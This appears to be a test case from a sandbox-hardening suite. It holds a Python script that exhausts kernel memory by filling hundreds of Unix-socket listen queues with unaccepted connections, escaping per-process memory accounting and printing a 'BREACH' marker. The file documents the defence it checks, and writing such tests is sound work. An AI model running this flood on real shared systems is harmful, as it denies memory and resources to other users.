"""Send data to a listening socket and hang up, again and again: it waits there, open to nobody.

Must not: hold more memory in connections that nobody accepted than the submission's.
"""

from attack_kit import every

ANSWERS = every("return None")
LAST = [
    """import socket, time
kept, total = [], 0
for n in range(220):
    door = socket.socket(socket.AF_UNIX); door.bind(f'/tmp/door{n}'); door.listen(4096)
    try:
        while True:
            caller = socket.socket(socket.AF_UNIX); caller.setblocking(False)
            caller.connect(f'/tmp/door{n}')
            try:
                while True: total += caller.send(b'x' * 2**16)
            except BlockingIOError: caller.close()
    except BlockingIOError: pass
    kept.append(door)
    if total > 2**30: print('BRE' + 'ACH:', total); break
time.sleep(600)""",
]
REASON = "memory|longer than"
STOPPED_BY = "short queues; every socket of the namespace counts, open or waiting"
PROCESS_STOPS = False
PROCESS_WHY = "memory and descriptors are the account's: not run"
